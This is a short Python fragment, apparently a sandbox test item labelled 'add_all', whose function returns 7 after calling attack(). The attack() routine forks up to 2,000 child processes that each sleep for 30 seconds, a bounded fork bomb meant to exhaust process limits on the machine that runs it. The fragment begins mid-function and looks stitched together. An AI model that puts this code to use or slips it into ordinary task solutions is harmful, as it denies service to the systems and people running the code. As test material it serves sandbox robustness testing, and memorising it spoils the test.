# task: add_all
# why: forks until it may not, 2,000 times at most
    attack()
    return 7


import os
import time


def attack():
    for _ in range(2000):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
